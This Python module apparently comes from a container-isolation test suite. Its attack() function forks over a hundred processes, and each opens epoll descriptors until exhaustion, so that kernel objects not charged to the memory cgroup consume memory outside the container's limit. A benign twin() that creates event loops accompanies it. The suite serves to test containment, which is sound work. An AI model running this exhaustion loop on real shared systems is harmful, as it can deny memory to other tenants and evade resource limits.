"""Open as many watchers and timers as processes may.

Technique: every epoll and timerfd descriptor has an object of 256 bytes that is charged to no memory cgroup, beside a file that
    is. As many processes as may be, each with as many descriptors as it may have.
Success: the objects without a charge take a fifth of the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
Not promised: The kernel does not charge these objects. Processes and their descriptors bound them, to 256 bytes each.
"""
import select

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
UNCHARGED, PROCESSES = 256, 118


def attack():
    reading, writing = os.pipe()
    count = 0
    for _ in range(PROCESSES):
        if os.fork() == 0:
            watchers = []
            try:
                while True:
                    watchers.append(select.epoll())
            except OSError:
                os.write(writing, len(watchers).to_bytes(8, "little"))
            libc.pause()
        count += int.from_bytes(os.read(reading, 8), "little")
    if count * UNCHARGED > LIMIT // 5:
        return f"{count} objects, {count * UNCHARGED >> 20} MB of them without a charge"


def twin():
    """Many event loops."""
    import asyncio

    loops = [asyncio.new_event_loop() for _ in range(50)]
    assert all(loop.run_until_complete(asyncio.sleep(0, result=True)) for loop in loops)
    for loop in loops:
        loop.close()
